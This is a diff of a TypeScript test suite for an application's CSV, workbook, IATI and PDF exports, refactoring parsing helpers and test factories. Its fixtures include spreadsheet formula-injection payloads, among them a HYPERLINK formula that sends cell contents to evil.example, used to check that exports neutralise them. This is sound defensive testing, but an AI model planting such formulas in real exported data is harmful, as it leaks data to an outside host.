@@ -1,7 +1,6 @@
 import ExcelJS from 'exceljs';
 import fc from 'fast-check';
 import { randomUUID } from 'node:crypto';
-import { inflateSync } from 'node:zlib';
 import { MILESTONE_TYPES, PARTICIPATION_ROLES } from '../src/actions/action.model';
 import { labelOf } from '../src/common/vocabulary';
 import { ExportsService } from '../src/exports/exports.service';
@@ -18,71 +17,11 @@ import { serialize } from '../src/exports/iati-xml';
 import { DemoSeeder } from '../src/seed/demo-seeder';
 import { validateIati } from './fixtures/iati/iati-validation';
 import { createTestDatabase, TestDatabase } from './support/test-database';
-import {
-  bootTestApp,
-  insertOrganisation,
-  signInAs,
-  SignedInAgent,
-  TestApp,
-} from './support/test-app';
+import { bootTestApp, TestApp } from './support/test-app';
+import { signedIn, newOrganisation, SignedInAgent } from './support/factories';
 import { binary } from './support/binary';
-
-/** Minimal RFC 4180 parser (quoted fields, doubled quotes, CRLF inside quotes). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(field);
-      field = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += c;
-  }
-  if (field || row.length) rows.push([...row, field]);
-  return rows;
-}
-
-const asObjects = (rows: string[][]) =>
-  rows.slice(1).map((r) => Object.fromEntries(rows[0].map((h, i) => [h, r[i]])));
-
-/** The text drawn in a pdfkit PDF: inflate content streams, decode the hex strings of TJ. */
-function pdfText(pdf: Buffer): string {
-  const raw = pdf.toString('latin1');
-  let text = '';
-  const re = /stream\r?\n/g;
-  let m: RegExpExecArray | null;
-  while ((m = re.exec(raw))) {
-    const start = m.index + m[0].length;
-    const end = raw.indexOf('endstream', start);
-    const data = Buffer.from(raw.slice(start, end), 'latin1');
-    let content: string;
-    try {
-      content = inflateSync(data).toString('latin1');
-    } catch {
-      content = data.toString('latin1');
-    }
-    for (const hex of content.match(/<([0-9a-fA-F]+)>/g) ?? []) {
-      text += Buffer.from(hex.slice(1, -1), 'hex').toString('latin1');
-    }
-    text += '\n';
-  }
-  return text;
-}
+import { csvObjects, csvRows } from './support/csv';
+import { pdfText } from './support/pdf-text';
 
 const HOSTILE = {
   hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
@@ -108,19 +47,19 @@ describe('exports (CSV, workbook, IATI, project sheet)', () => {
 
   beforeAll(async () => {
     t = await bootTestApp();
-    staff = await signInAs(t, 'staff');
-    director = await signInAs(t, 'director');
-    partnerOrg = await insertOrganisation(t.db, {
+    staff = await signedIn(t, 'staff');
+    director = await signedIn(t, 'director');
+    partnerOrg = await newOrganisation(t.db, {
       name: HOSTILE.hyperlink,
       acronym: HOSTILE.at,
       type: 'bilateral_agency',
       country: 'DE',
     });
-    otherOrg = await insertOrganisation(t.db, {
+    otherOrg = await newOrganisation(t.db, {
       name: 'Otra agencia, "la otra"',
       type: 'multilateral',
     });
-    partner = await signInAs(t, 'partner', partnerOrg);
+    partner = await signedIn(t, 'partner', { organisationId: partnerOrg });
     const own = await staff.post('/api/v1/actions').send({
       code: ownCode,
       kind: 'cooperation_project',
@@ -220,9 +159,9 @@ describe('exports (CSV, workbook, IATI, project sheet)', () => {
       );
       expect(res.headers['cache-control']).toBe('no-store');
       expect(res.text.charCodeAt(0)).toBe(0xfeff);
-      const rows = parseCsv(res.text.slice(1));
+      const rows = csvRows(res.text.slice(1));
       expect(rows[0]).toContain('notes'); // staff and directors get internal fields
-      const [row] = asObjects(rows);
+      const [row] = csvObjects(res.text.slice(1));
       expect(row).toMatchObject({
         code: ownCode,
         title_es: `'${HOSTILE.plus}`,
@@ -244,17 +183,17 @@ describe('exports (CSV, workbook, IATI, project sheet)', () => {
       const parts = await director
         .get(`/api/v1/exports/participations.csv?q=${ownCode}`)
         .expect(200);
-      const prow = asObjects(parseCsv(parts.text.slice(1)));
+      const prow = csvObjects(parts.text.slice(1));
       expect(prow.map((r) => r['organisation'])).toContain(`'${HOSTILE.hyperlink}`);
       expect(prow.map((r) => r['organisation_acronym'])).toContain(`'${HOSTILE.at}`);
       expect(parts.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")"`);
 
       const ms = await director.get(`/api/v1/exports/milestones.csv?q=${ownCode}`).expect(200);
-      const titles = asObjects(parseCsv(ms.text.slice(1))).map((r) => r['title']);
+      const titles = csvObjects(ms.text.slice(1)).map((r) => r['title']);
       expect(titles.sort()).toEqual([`'${HOSTILE.cr}`, `'${HOSTILE.at}`].sort());
 
       const money = await director.get(`/api/v1/exports/funding.csv?q=${ownCode}`).expect(200);
-      const frows = asObjects(parseCsv(money.text.slice(1)));
+      const frows = csvObjects(money.text.slice(1));
       expect(frows).toEqual(
         expect.arrayContaining([
           expect.objectContaining({
@@ -277,7 +216,7 @@ describe('exports (CSV, workbook, IATI, project sheet)', () => {
         'indicators',
       ]) {
         const res = await director.get(`/api/v1/exports/${table}.csv?q=${ownCode}`).expect(200);
-        for (const r of parseCsv(res.text.slice(1)))
+        for (const r of csvRows(res.text.slice(1)))
           for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
       }
     });
@@ -291,16 +230,16 @@ describe('exports (CSV, workbook, IATI, project sheet)', () => {
 
     it('exports exactly one action’s tables with ?id= (and never one a partner may not see)', async () => {
       const csv = await director.get(`/api/v1/exports/funding.csv?id=${ownId}`).expect(200);
-      const rows = parseCsv(csv.text.replace(/^\uFEFF/, ''));
+      const rows = csvRows(csv.text.replace(/^\uFEFF/, ''));
       expect(rows.length).toBeGreaterThan(1);
       const codeColumn = rows[0].indexOf('action_code');
       expect(new Set(rows.slice(1).map((r) => r[codeColumn]))).toEqual(new Set([ownCode]));
       const both = await director
         .get(`/api/v1/exports/actions.csv?id=${ownId}&id=${otherId}`)
         .expect(200);
-      expect(parseCsv(both.text.replace(/^\uFEFF/, '')).length).toBe(3);
+      expect(csvRows(both.text.replace(/^\uFEFF/, '')).length).toBe(3);
       const hidden = await partner.get(`/api/v1/exports/actions.csv?id=${otherId}`).expect(200);
-      expect(parseCsv(hidden.text.replace(/^\uFEFF/, ''))).toHaveLength(1);
+      expect(csvRows(hidden.text.replace(/^\uFEFF/, ''))).toHaveLength(1);
     });
   });
 
@@ -362,7 +301,7 @@ describe('exports (CSV, workbook, IATI, project sheet)', () => {
 
       const en = await director.get(`/api/v1/exports/actions.csv?id=${ownId}&lang=en`).expect(200);
       expect(en.headers['content-disposition']).toMatch(/filename="coopera-actions-/);
-      const [row] = asObjects(parseCsv(en.text.replace(/^\uFEFF/, '')));
+      const [row] = csvObjects(en.text.replace(/^\uFEFF/, ''));
       expect(row).toMatchObject({
         Code: ownCode,
         Kind: 'Cooperation project',
@@ -467,13 +406,13 @@ describe('exports (CSV, workbook, IATI, project sheet)', () => {
         const all = await director.get(`/api/v1/exports/${table}.csv?${q}`).expect(200);
         const mine = await partner.get(`/api/v1/exports/${table}.csv?${q}`).expect(200);
         const codes = (text: string) =>
-          new Set(asObjects(parseCsv(text.slice(1))).map((r) => r['code'] ?? r['action_code']));
+          new Set(csvObjects(text.slice(1)).map((r) => r['code'] ?? r['action_code']));
         expect([...codes(all.text)].sort()).toEqual([otherCode, ownCode].sort());
         expect([...codes(mine.text)]).toEqual([ownCode]);
         expect(mine.text).not.toContain('NOTA-INTERNA-SECRETA');
         expect(mine.text).not.toContain('PARTICIPACION-INTERNA');
         if (table === 'actions' || table === 'participations')
-          expect(parseCsv(mine.text.slice(1))[0]).not.toContain('notes');
+          expect(csvRows(mine.text.slice(1))[0]).not.toContain('notes');
       }
       const xlsx = await partner
         .get(`/api/v1/exports/portfolio.xlsx?${q}`)
@@ -504,9 +443,9 @@ describe('exports (CSV, workbook, IATI, project sheet)', () => {
     });
 
     it('a partner with no actions gets header-only CSVs and 422 for IATI', async () => {
-      const lonely = await signInAs(t, 'partner', await insertOrganisation(t.db));
+      const lonely = await signedIn(t, 'partner', { organisationId: await newOrganisation(t.db) });
       const res = await lonely.get('/api/v1/exports/actions.csv').expect(200);
-      expect(parseCsv(res.text.slice(1))).toHaveLength(1);
+      expect(csvRows(res.text.slice(1))).toHaveLength(1);
       const iati = await lonely.get('/api/v1/exports/iati.xml').expect(422);
       expect(iati.body.code).toBe('IATI_NOTHING_TO_EXPORT');
     });
@@ -622,7 +561,7 @@ describe('IATI export of the demo portfolio (database of its own)', () => {
   });
 
   it('validates against the IATI 2.03 schema and passes the ruleset (errors) for every published action', async () => {
-    const director = await signInAs(t, 'director');
+    const director = await signedIn(t, 'director');
     const res = await director.get('/api/v1/exports/iati.xml').expect(200);
     const validation = await validateIati(res.text);
     expect(validation.errors).toEqual([]);
@@ -648,7 +587,7 @@ describe('IATI export of the demo portfolio (database of its own)', () => {
   });
 
   it('writes the project sheet of a demo action with labels and Mexican dates, never codes or slugs', async () => {
-    const director = await signInAs(t, 'director');
+    const director = await signedIn(t, 'director');
     const [a]: { id: string; code: string; kind: string; status: string; modality: string }[] =
       await t.db.query(
         `SELECT a.id, a.code, a.kind, a.status, a.modality FROM actions a
@@ -693,7 +632,7 @@ describe('IATI export of the demo portfolio (database of its own)', () => {
     const [{ id: giz }]: { id: string }[] = await t.db.query(
       `SELECT id FROM organisations WHERE slug = 'giz'`,
     );
-    const partner = await signInAs(t, 'partner', giz);
+    const partner = await signedIn(t, 'partner', { organisationId: giz });
     const res = await partner.get('/api/v1/exports/iati.xml').expect(200);
     expect((await validateIati(res.text)).errors).toEqual([]);
     const codes: { code: string }[] = await t.db.query(
@@ -890,8 +829,8 @@ describe('export rate limits (429 with Retry-After, counted in PostgreSQL)', () 
   afterAll(() => t.close());
 
   it('lets a user export the configured number of files per minute, then answers 429; others are unaffected', async () => {
-    const staff = await signInAs(t, 'staff');
-    const other = await signInAs(t, 'director');
+    const staff = await signedIn(t, 'staff');
+    const other = await signedIn(t, 'director');
     for (const path of ['actions.csv', 'funding.csv', 'portfolio.xlsx']) {
       await staff.get(`/api/v1/exports/${path}`).buffer(true).parse(binary).expect(200);
     }
